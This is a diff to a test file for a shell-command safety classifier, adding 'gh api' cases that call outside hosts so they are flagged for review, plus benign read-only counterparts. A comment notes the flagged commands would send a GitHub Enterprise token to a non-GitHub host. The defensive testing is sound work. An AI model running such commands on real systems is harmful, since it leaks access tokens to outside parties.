@@ -1178,7 +1178,10 @@ export const EVASION_CASES: readonly CommandCase[] = [
   ["kubectl get pods --profile=cpu", "review"],
   ["kubectl --profile heap get pods", "review"],
   ["kubectl get pods --kuberc=prefs.yaml", "review"],
-  ["KUBERC=./prefs.yaml kubectl get pods", "review"],
+  ["KUBERC=./prefs.yaml kubectl get pods", "review"], // review53: gh api uses an endpoint with `://` as the whole URL, on any host (and sends
+  // GH_ENTERPRISE_TOKEN to a host that is not github.com), as -R HOST/OWNER/REPO does.
+  ["gh api https://collector.example.test/x", "review"],
+  ["gh api --paginate http://203.0.113.7/repos", "review"],
 ];
 
 /** Commands that look like dangerous ones but are read-only or only need review. */
@@ -2288,5 +2291,7 @@ export const NEGATIVE_CASES: readonly CommandCase[] = [
   ["cat ~/.lesshst", "read_only"], // kubectl flags with underscores that only read, and the profile left at none.
   ["kubectl get pods --show_labels", "read_only"],
   ["kubectl get pods --profile=none", "read_only"],
-  ["kubectl get pods --request_timeout=5s", "read_only"],
+  ["kubectl get pods --request_timeout=5s", "read_only"], // gh api paths on the configured host, and a jq filter that merely names a URL.
+  ["gh api repos/cli/cli/releases --jq '.[].html_url'", "read_only"],
+  ["gh api /user", "read_only"],
 ];
